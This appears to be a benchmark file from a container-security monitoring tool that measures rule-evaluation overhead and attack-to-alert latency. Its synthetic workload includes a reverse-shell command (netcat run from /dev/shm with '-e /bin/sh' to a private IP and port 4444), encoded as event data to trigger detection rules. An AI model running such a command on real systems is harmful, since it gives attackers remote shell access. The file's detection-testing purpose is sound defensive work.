/**
 * The security analyzer: what the rules cost on the path an event takes in `eunomia server`
 * (record decoded from its BTF struct → container enrichment → [analyzer] → sink), and the
 * time from the attacking syscall (the event's kernel timestamp) to the alert. Needs root and
 * a Docker engine with the test image (scripts/test-env.sh).
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { Analyzer } from '../src/analyzer/analyzer.js';
import { Btf, compileDecoder, encodeValue } from '../src/core/btf/index.js';
import type { NativeBinding } from '../src/core/native.js';
import { objectDir } from '../src/core/paths.js';
import { cgroup2Root, scanCgroups } from '../src/containers/cgroup.js';
import { enrichHandler, type Containers } from '../src/containers/index.js';
import { countingSink } from '../src/pipeline/handlers.js';
import { Pipeline } from '../src/pipeline/pipeline.js';
import type { Handler, Sink } from '../src/pipeline/types.js';
import { BUILTIN_RULES, loadRules, RuleSet } from '../src/rules/index.js';
import { createRegistry, MetricsExporter } from '../src/metrics/index.js';
import { trackers } from '../src/trackers/registry.js';
import { Agent } from '../src/agent/agent.js';
import { defaultConfig } from '../src/agent/config.js';
import { opensnoopTracker } from '../src/trackers/opensnoop/index.js';
import { processTracker } from '../src/trackers/process/index.js';
import { tcpconnectTracker } from '../src/trackers/tcpconnect/index.js';
import type { TrackerDescriptor } from '../src/runtime/types.js';
import { dockerReady, IMAGE, run, withContainers } from './docker-host.js';
import { safeConfig } from '../src/cli/server.js';
import { ATTACKER_FLAGS, CASES, perform, SECCOMP_LOG_PROFILE, writeSeccompLogProfile } from '../test/rules/cases.js';


const O_WRONLY = 1;
const O_RDWR = 2;
const O_CREAT = 0o100;
const O_TRUNC = 0o1000;
const O_APPEND = 0o2000;
const O_NONBLOCK = 0o4000;
const O_DIRECTORY = process.arch === 'arm64' || process.arch === 'arm' ? 0o40000 : 0o200000;
const O_CLOEXEC = 0o2000000;
const AF_INET = 2;

type Fields = Record<string, unknown>;
/** One tracker's records: the shipped object's struct, its decoder and `format`. */
interface Source { name: string; decode: (b: Buffer, off: number) => Fields; size: number; btf: Btf; typeId: number }

function source(t: TrackerDescriptor): Source {
  const btf = Btf.fromElf(readFileSync(join(objectDir, t.object)));
  const typeId = btf.find(t.event!.struct, 'struct')!.id;
  const decoder = compileDecoder(btf, typeId);
  const format = t.format;
  return { name: t.name, btf, typeId, size: decoder.size, decode: (b, off) => { const d = decoder.decode(b, off); format?.(d); return d; } };
}

const ip = (s: string): number[] => s.split('.').map(Number);

/**
 * A busy container host, mostly benign: an app container (python) opening its code, libraries
 * and config, writing temp files, exec-ing its interpreter and connecting to its database;
 * host daemons doing the same kind of things (sshd reading /etc/shadow is an exception of a
 * rule). Near misses on purpose: reads below /etc, writes outside /etc and binary dirs. One
 * event per 4096 is an attack (netcat run from /dev/shm in a container), so the match path is
 * taken too.
 */
function mix(container: boolean): { tracker: 'process' | 'opensnoop' | 'tcpconnect'; fields: Fields }[] {
  const app = { comm: 'python3', uid: 1000, gid: 1000, ppid: 1 };
  const open = (comm: string, path: string, flags: number, fd = 7): { tracker: 'opensnoop'; fields: Fields } =>
    ({ tracker: 'opensnoop', fields: { ...app, comm, syscall: 'openat', dfd: -100, fd, error_raw: fd < 0 ? 2 : 0, flags_raw: flags, mode_raw: flags & O_CREAT ? 0o644 : 0, path } });
  const conn = (daddr: string, dport: number): { tracker: 'tcpconnect'; fields: Fields } =>
    ({ tracker: 'tcpconnect', fields: { ...app, family_raw: AF_INET, saddr_raw: ip('172.17.0.5'), daddr_raw: ip(daddr), direction: 'connect', sport: 40000 + dport % 1000, dport, established: true } });
  const proc = (type: 'exec' | 'exit', comm: string, exe: string, args: string[]): { tracker: 'process'; fields: Fields } =>
    ({ tracker: 'process', fields: { ...app, comm, type, filename: exe, exe, args: args.join('\0'), args_size: args.join('\0').length + 1 } });
  if (container) {
    return [
      open('python3', '/app/server.py', O_CLOEXEC),
      open('python3', '/usr/lib/python3.11/json/__init__.py', O_CLOEXEC),
      open('python3', '/usr/lib/python3.11/encodings', O_DIRECTORY | O_NONBLOCK | O_CLOEXEC),
      open('python3', '/etc/hosts', O_CLOEXEC),
      open('python3', '/etc/resolv.conf', O_CLOEXEC),
      open('python3', '/tmp/upload-7f3a.part', O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC),
      open('python3', '/app/static/index.html', O_CLOEXEC),
      open('python3', '/proc/self/status', O_CLOEXEC),
      open('python3', '/app/config.missing', O_CLOEXEC, -1),
      open('gunicorn', '/var/log/app/access.log', O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC),
      conn('10.0.0.7', 5432),
      conn('10.0.0.7', 5432),
      conn('10.0.0.8', 6379),
      conn('93.184.216.34', 443),
      proc('exec', 'python3', '/usr/local/bin/python3', ['python3', '-m', 'worker', '--queue', 'default']),
      proc('exit', 'python3', '', []),
    ];
  }
  return [
    open('systemd-journal', '/var/log/journal/abc/system.journal', O_RDWR | O_CREAT | O_CLOEXEC),
    open('sshd', '/etc/shadow', O_CLOEXEC),
    open('sshd', '/etc/ssh/sshd_config', O_CLOEXEC),
    open('cron', '/etc/crontab', O_CLOEXEC),
    open('node', '/usr/lib/node_modules/npm/package.json', O_CLOEXEC),
    open('containerd', '/run/containerd/io.containerd.runtime.v2.task/moby/x/config.json', O_CLOEXEC),
    open('dockerd', '/var/lib/docker/containers/x/hostconfig.json', O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC),
    open('bash', '/home/dev/.bash_history', O_WRONLY | O_APPEND | O_CREAT),
    conn('10.0.0.1', 53),
    conn('140.82.112.3', 443),
    proc('exec', 'ls', '/usr/bin/ls', ['ls', '--color=auto', '-la']),
    proc('exit', 'ls', '', []),
    proc('exec', 'git', '/usr/bin/git', ['git', 'status', '--porcelain']),
    proc('exit', 'git', '', []),
  ];
}

const ATTACK_ARGS = ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'].join('\0');
const ATTACK = { tracker: 'process', fields: { comm: 'nc', uid: 0, gid: 0, ppid: 1, type: 'exec', filename: '/dev/shm/nc', exe: '/dev/shm/nc', args: ATTACK_ARGS, args_size: ATTACK_ARGS.length + 1 } } as const;

/** Records in memory, one buffer per tracker, and the order to push them in. */
export interface Workload { sources: Source[]; bufs: Buffer[]; which: Uint8Array; offsets: Uint32Array; containers: number; hosts: number }

export function workload(containerCgroups: number[], hostCgroups: number[], n: number): Workload {
  const sources = [processTracker, opensnoopTracker, tcpconnectTracker].map(source);
  const idx = { process: 0, opensnoop: 1, tcpconnect: 2 };
  const inCt = mix(true);
  const onHost = mix(false);
  const per: Fields[][] = [[], [], []];
  const which = new Uint8Array(n);
  const slot = new Uint32Array(n);
  for (let i = 0; i < n; i++) {
    // Two events of three come from containers (the attack, at 4095 of each 4096, too).
    const ct = i % 3 !== 2;
    const cgs = ct ? containerCgroups : hostCgroups;
    const pick = i % 4096 === 4095 ? ATTACK : ct ? inCt[(i * 7) % inCt.length]! : onHost[(i * 5) % onHost.length]!;
    which[i] = idx[pick.tracker];
    slot[i] = per[which[i]!]!.length;
    per[which[i]!]!.push({ ...pick.fields, pid: 1000 + (i & 1023), tid: 1000 + (i & 1023), cgroup_id: cgs[i % cgs.length] });
  }
  const bufs = sources.map((s, k) => {
    const buf = Buffer.alloc(s.size * Math.max(1, per[k]!.length));
    per[k]!.forEach((f, j) => encodeValue(s.btf, s.typeId, f, buf, j * s.size, `bench ${s.name} record`));
    return buf;
  });
  const offsets = new Uint32Array(n);
  for (let i = 0; i < n; i++) offsets[i] = slot[i]! * sources[which[i]!]!.size;
  return { sources, bufs, which, offsets, containers: containerCgroups.length, hosts: hostCgroups.length };
}

/** Events/s for decode → handlers → counting sink (and `extra` sinks), as the tracker's batch callback feeds the pipeline. */
export function throughput(handlers: Handler[], w: Workload, n: number, extra: Sink[] = []): number {
  const sink = countingSink();
  const p = new Pipeline({ handlers, sinks: [sink, ...extra] });
  const total = w.which.length;
  const { sources, bufs, which, offsets } = w;
  const t0 = performance.now();
  for (let i = 0; i < n; i++) {
    const j = i % total;
    const s = sources[which[j]!]!;
    p.push({ tracker: s.name, instance: 1, time: 1_700_000_000_000 + i, data: s.decode(bufs[which[j]!]!, offsets[j]!) });
  }
  const secs = (performance.now() - t0) / 1000;
  if (sink.count !== n) throw new Error(`bench: ${n - sink.count} events did not reach the sink`);
  return n / secs;
}

export function scanCgroupIds(): number[] {
  const root = cgroup2Root();
  return root ? [...scanCgroups(root).keys()] : [];
}

async function rulesCost(c: Containers): Promise<void> {
  const containerCgroups = [...c.resolver.containerCgroups().keys()];
  const hostCgroups = scanCgroupIds().filter((cg) => !containerCgroups.includes(cg)).slice(0, 8);
  if (containerCgroups.length === 0 || hostCgroups.length === 0) throw new Error('bench: no container or host cgroups found');
  const w = workload(containerCgroups, hostCgroups, 65536);
  const enrich = (): Handler => enrichHandler(c.resolver);
  // Rules are loaded once, as the server does: their compiled matchers stay warm from run to
  // run. The analyzer without rules too: its own work (process tree, stats) apart from the rules'.
  const builtin = loadRules([]);
  const noRules = loadRules([], false);
  const rules = builtin.rules().filter((r) => r.enabled).length;
  const n = 500_000;
  // Two pipelines without rules: enrichment alone, and what `eunomia server` runs around the
  // analyzer (enrichment, and the metrics exporter among its sinks).
  const exporter = new MetricsExporter(createRegistry(), trackers);
  const pipelines: [string, Sink[]][] = [
    ['decode → enrichment → sink', []],
    ['decode → enrichment → sink and metrics exporter (eunomia server)', [exporter]],
  ];
  console.log(`rules: ${n / 1000}k process, opensnoop and tcpconnect records decoded from memory, over ${w.containers} container and ${w.hosts} host cgroups (mostly benign); median of 9 alternating pairs of runs (the VM's speed drifts more between runs than the difference measured):`);
  for (const [label, sinks] of pipelines) {
    // The analyzer as the agent runs it: a sink after the enrichment.
    const run = (rs?: RuleSet, events = n): number => throughput([enrich()], w, events, [...sinks, ...(rs ? [new Analyzer({ rules: rs }).sink()] : [])]);
    // Warm up every path (JIT, caches) first.
    for (const rs of [undefined, builtin, noRules]) run(rs, n / 5);
    const cost = (rs: RuleSet): { ratio: number; base: number } => {
      const ratios: number[] = [];
      const base: number[] = [];
      for (let r = 0; r < 9; r++) {
        const [without, withIt] = r % 2 ? [run(), run(rs)] : [run(rs), run()].reverse();
        ratios.push(without! / withIt!);
        base.push(1e9 / without!);
      }
      return { ratio: median(ratios), base: median(base) };
    };
    const all = cost(builtin);
    const bare = cost(noRules);
    console.log(`  ${label}: ${all.base.toFixed(0)} ns/event without the analyzer; all ${rules} built-in rules cost ${((1 - 1 / all.ratio) * 100).toFixed(1)} % of pipeline throughput (target ≤ 12 %), ${(all.base * (all.ratio - 1)).toFixed(0)} ns per event; the analyzer stage with no rules ${(bare.base * (bare.ratio - 1)).toFixed(0)} ns of that`);
  }
  await exporter.close();
}

const median = (xs: number[]): number => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)]!;

async function alertLatency(native: NativeBinding, runs: number): Promise<void> {
  const config = defaultConfig();
  config.trackers = [{ name: 'process', options: {} }];
  config.rules.trackers = false; // this one only
  config.rules.burst = 1000; // every run's alert, not a throttled few
  const agent = await Agent.start(config, { native, log: () => {} });
  const lat: number[] = [];
  let missed = 0;
  const name = `eunomia-bench-rules-${process.pid}`; // two benches at once must not share it
  try {
    await run('docker', ['run', '-d', '--name', name, IMAGE, 'sleep', '3600']);
    for (let i = 0; i < runs; i++) {
      let off = (): void => {};
      const seen = new Promise<number | undefined>((resolve) => {
        const timer = setTimeout(() => (off(), resolve(undefined)), 5000);
        off = agent.analyzer!.subscribe((a) => {
          if (a.rule !== 'shell_in_container' || a.container?.name !== name) return;
          off();
          clearTimeout(timer);
          resolve(Date.now() - Date.parse(a.time)); // alert out − the exec's kernel timestamp
        });
      });
      // -t: the rule is about interactive shells (with a terminal).
      await run('docker', ['exec', '-t', name, 'sh', '-c', 'true']);
      const ms = await seen;
      if (ms === undefined) missed++;
      else lat.push(ms);
    }
  } finally {
    await run('docker', ['rm', '-f', name]).catch(() => {});
    await agent.close();
  }
  lat.sort((a, b) => a - b);
  const q = (p: number): number => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))] ?? NaN;
  const lost = missed ? `; ${missed} runs raised no alert within 5 s` : '';
  console.log(`attack (interactive shell: docker exec -t … sh) → alert, ${runs} runs: p50 ${q(0.5)} ms, p95 ${q(0.95)} ms, max ${q(1)} ms (target p95 < 100 ms)${lost}`);
}

/**
 * Attack → alert for every built-in rule: its attack from test/rules/cases.ts, `runs` times in
 * one attacker container, under the agent as `eunomia safe` runs it. The time is from the
 * attacking event's kernel timestamp (the alert's `time`) to the alert reaching a subscriber;
 * per rule, and per class (the tracker that sees the attack).
 */
async function alertLatencyPerRule(native: NativeBinding, runs: number): Promise<void> {
  const config = safeConfig(defaultConfig());
  config.rules.burst = 1_000_000; // every alert, not a throttled few
  const agent = await Agent.start(config, { native, log: () => {} });
  // seccomp_profile_violation's containers run under this log-mode profile, watched with it.
  agent.startTracker('seccomplog', { containersOnly: true, profile: writeSeccompLogProfile() });
  const attacker = `eunomia-bench-attacker-${process.pid}`;
  const made: string[] = [];
  const byRule = new Map<string, number[]>();
  const missed = new Map<string, number>();
  try {
    await run('docker', ['run', '-d', ...ATTACKER_FLAGS, '--name', attacker, IMAGE, 'sleep', '3600']);
    for (const [rule, [step]] of Object.entries(CASES)) {
      for (let i = 0; i < runs; i++) {
        // an exec step's alert names the attacker; a run step's, the container it makes
        const ran = `eunomia-bench-${rule}-${process.pid}-`;
        const ours = (name: unknown): boolean => name === attacker || (typeof name === 'string' && name.startsWith(ran));
        const started = Date.now();
        const seen = new Promise<number | undefined>((resolve) => {
          const timer = setTimeout(() => (off(), resolve(undefined)), 10_000);
          const off = agent.analyzer!.subscribe((a) => {
            if (a.rule !== rule || !ours(a.container?.name) || Date.parse(a.time) < started - 1) return;
            off();
            clearTimeout(timer);
            resolve(Date.now() - Date.parse(a.time));
          });
        });
        await perform(step, attacker, `bench-${rule}`, made).catch(() => {});
        const ms = await seen;
        if (ms === undefined) missed.set(rule, (missed.get(rule) ?? 0) + 1);
        else (byRule.get(rule) ?? byRule.set(rule, []).get(rule)!).push(ms);
      }
      if (made.length) await run('docker', ['rm', '-f', ...made.splice(0)]).catch(() => {});
    }
  } finally {
    await run('docker', ['rm', '-f', attacker, ...made]).catch(() => {});
    await agent.close();
    rmSync(SECCOMP_LOG_PROFILE, { force: true });
  }
  const q = (xs: number[], p: number): number => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor(p * xs.length))] ?? NaN;
  const classOf = new Map(loadRules([]).rules().map((r) => [r.id, r.events.join('+')]));
  const byClass = new Map<string, number[]>();
  for (const [rule, xs] of byRule) (byClass.get(classOf.get(rule)!) ?? byClass.set(classOf.get(rule)!, []).get(classOf.get(rule)!)!).push(...xs);
  console.log(`attack → alert, each rule's attack ${runs} times (ms from the attacking event's kernel timestamp):`);
  console.log('  class (trackers)            rules  alerts  p50  p95  max');
  for (const [cls, xs] of [...byClass].sort()) {
    const rules = [...byRule.keys()].filter((r) => classOf.get(r) === cls).length;
    console.log(`  ${cls.padEnd(26)}  ${String(rules).padStart(5)}  ${String(xs.length).padStart(6)}  ${String(q(xs, 0.5)).padStart(3)}  ${String(q(xs, 0.95)).padStart(3)}  ${String(q(xs, 1)).padStart(3)}`);
  }
  const slow = [...byRule].map(([r, xs]) => `${r} ${q(xs, 0.5)}/${q(xs, 1)}`).join(', ');
  console.log(`  per rule (p50/max ms): ${slow}`);
  if (missed.size) console.log(`  attacks that raised no alert within 10 s: ${[...missed].map(([r, n]) => `${r} ×${n}`).join(', ')}`);
}

/**
 * Loading the built-in rules, as the agent's start does: in this process (median of `runs`),
 * and in fresh processes (module import, then load; then the first event of three trackers,
 * which compiles their matchers), each with the parsed-rules cache (scripts/rules-cache.js)
 * and parsing the YAML instead.
 */
export function rulesLoadBench(runs = 15, spawns = 7): void {
  const load = (cache: boolean): number => {
    const t0 = performance.now();
    new RuleSet(cache ? {} : { cache: false }).loadFiles([BUILTIN_RULES]);
    return performance.now() - t0;
  };
  const index = new URL('../src/rules/index.js', import.meta.url).href;
  const script = (cache: boolean): string => `
const t0 = performance.now();
const { RuleSet, BUILTIN_RULES } = await import(${JSON.stringify(index)});
const t1 = performance.now();
const set = new RuleSet(${cache ? '{}' : '{ cache: false }'});
set.loadFiles([BUILTIN_RULES]);
const t2 = performance.now();
for (const tracker of ['process', 'opensnoop', 'tcpconnect']) set.match({ tracker, instance: 1, time: 0, data: {} });
const t3 = performance.now();
console.log(JSON.stringify([t1 - t0, t2 - t1, t3 - t2, set.rules().length]));`;
  const fresh = (cache: boolean): number[] => JSON.parse(execFileSync(process.execPath, ['--input-type=module', '-e', script(cache)], { encoding: 'utf8' })) as number[];
  // By turns, with the cache and without, so that both see the machine alike.
  const inProcess: [number[], number[]] = [[], []];
  for (let i = 0; i < runs; i++) for (const k of [0, 1] as const) inProcess[k].push(load(k === 0));
  const spawned: [number[][], number[][]] = [[], []];
  for (let i = 0; i < spawns; i++) for (const k of [0, 1] as const) spawned[k].push(fresh(k === 0));
  const warm = inProcess.map(median);
  const cold = spawned.map((rs) => ({ imp: median(rs.map((r) => r[0]!)), load: median(rs.map((r) => r[1]!)), first: median(rs.map((r) => r[2]!)), rules: rs[0]![3]! }));
  const ms = (x: number): string => `${x.toFixed(1)} ms`;
  console.log(`rules load (${cold[0]!.rules} built-in rules): in this process, median of ${runs}: ${ms(warm[0]!)} (parsing the YAML instead of the cache: ${ms(warm[1]!)}); ` +
    `in a fresh process, median of ${spawns}: import ${ms(cold[0]!.imp)} + load ${ms(cold[0]!.load)} (parsing the YAML: ${ms(cold[1]!.imp)} + ${ms(cold[1]!.load)}); ` +
    `then the matchers of process, opensnoop and tcpconnect, compiled by their first event: ${ms(cold[0]!.first)}`);
}

export async function rulesBench(native: NativeBinding): Promise<void> {
  rulesLoadBench();
  if (!(await dockerReady('rules'))) return;
  // Containers the resolver knows by name, as an app host has.
  await withContainers(native, 'app', 4, (c) => rulesCost(c));
  await alertLatency(native, 30);
  await alertLatencyPerRule(native, 5);
}
